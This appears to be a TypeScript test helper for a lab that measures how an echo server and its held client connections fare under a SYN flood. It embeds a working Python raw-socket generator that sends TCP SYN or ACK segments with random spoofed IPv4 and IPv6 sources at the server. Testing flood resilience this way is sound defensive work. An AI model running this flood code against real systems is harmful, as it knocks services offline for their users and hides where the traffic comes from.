/** Traffic of a SYN flood with real clients in it, for a lab: an echo server, connections that are held, forged segments from random sources. */
import type { ChildProcessWithoutNullStreams } from 'node:child_process';
import { createInterface } from 'node:readline';
import type { Lab, Role } from '../support/lab.js';

export const SERVER = { v4: '192.0.2.10', v6: '2001:db8:f::10' } as const;
export const PORT = 8443;

const ECHO = `
import socket, sys, threading
def serve(s):
    try:
        while True:
            data = s.recv(65536)
            if not data: return
            s.sendall(data)
    except OSError: pass
    finally: s.close()
server = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(('::', int(sys.argv[1])))
server.listen(256)
print('ready', flush=True)
while True: threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
`;

/** TARGET PORT COUNT [SOURCE]: opens connections; for each line on stdin, 20 kB there and back over each: prints how many got all of it. */
const HOLDER = `
import socket, sys
target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
held = []
for i in range(count):
    try:
        s = socket.create_connection((target, port), 4, (sys.argv[4], 0) if len(sys.argv) > 4 else None)
        s.settimeout(4)
        held.append(s)
    except OSError: pass
data = b'x' * 20000
def echoed(s):
    try:
        s.sendall(data)
        got = 0
        while got < len(data):
            piece = s.recv(65536)
            if not piece: return False
            got += len(piece)
        return True
    except OSError: return False
for line in sys.stdin: print(sum(echoed(s) for s in held), flush=True)
`;

/** TARGET PORT COUNT FLAGS: TCP segments from random sources, checksums right; a short rest now and then, for the receiver shares the processor. */
const FORGER = `
import random, socket, struct, sys, time
target, port, count, flags = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
v6 = ':' in target
family = socket.AF_INET6 if v6 else socket.AF_INET
to = socket.inet_pton(family, target)
chance = random.Random(7)
def checksum(data):
    if len(data) % 2: data += b'\\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def segment():
    source = bytes.fromhex('20010db8bad0') + chance.randbytes(10) if v6 else bytes([chance.choice([45, 62, 77, 91, 151, 188])]) + chance.randbytes(3)
    options = struct.pack('!BBHBBBB', 2, 4, 1460, 4, 2, 1, 1) if flags == 2 else b''
    ack = 0 if flags == 2 else chance.getrandbits(32)
    head = struct.pack('!HHIIBBHHH', chance.randrange(1024, 65535), port, chance.getrandbits(32), ack, (20 + len(options)) // 4 << 4, flags, 64240, 0, 0)
    tcp = head + options
    pseudo = source + to + (struct.pack('!IHBB', len(tcp), 0, 0, 6) if v6 else struct.pack('!BBH', 0, 6, len(tcp)))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    if v6: return struct.pack('!IHBB', 6 << 28, len(tcp), 6, 64) + source + to + tcp
    return struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + source + to + tcp
packets = [segment() for i in range(count)]
s = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i, packet in enumerate(packets):
    s.sendto(packet, (target, 0))
    if i % 200 == 199: time.sleep(0.002)
`;

export async function startEcho(lab: Lab): Promise<ChildProcessWithoutNullStreams> {
  const server = lab.start('victim', ['python3', '-c', ECHO, String(PORT)]);
  await new Promise((resolve) => server.stdout.once('data', resolve));
  return server;
}

/** 2000 segments to each address of the server; `flags` as in the header: 2 is SYN, 16 is ACK. */
export async function forge(lab: Lab, flags: 2 | 16, count = 2000): Promise<void> {
  for (const target of [SERVER.v4, SERVER.v6])
    await lab.must('attacker', ['python3', '-c', FORGER, target, String(PORT), String(count), String(flags)]);
}

/** Connections that are held until `close`. */
export class HeldConnections {
  readonly #child: ChildProcessWithoutNullStreams;
  readonly #answers: AsyncIterator<string>;

  constructor(lab: Lab, target: string, count: number, { port = PORT, from = 'client' as Role, source = '' } = {}) {
    const args = [target, String(port), String(count), ...(source === '' ? [] : [source])];
    this.#child = lab.start(from, ['python3', '-c', HOLDER, ...args]);
    this.#answers = createInterface({ input: this.#child.stdout })[Symbol.asyncIterator]();
  }

  /** How many of them carried data there and back, whole. */
  async exchange(): Promise<number> {
    this.#child.stdin.write('\n');
    const { value } = await this.#answers.next();
    return Number(value);
  }

  close(): Promise<unknown> {
    const ended = new Promise((resolve) => this.#child.once('close', resolve));
    this.#child.stdin.end();
    return ended;
  }
}

/** Of as many new connections, how many carried data there and back. */
export async function usable(
  lab: Lab,
  target: string,
  count: number,
  options: { port?: number; from?: Role; source?: string } = {},
): Promise<number> {
  const held = new HeldConnections(lab, target, count, options);
  const carried = await held.exchange();
  await held.close();
  return carried;
}
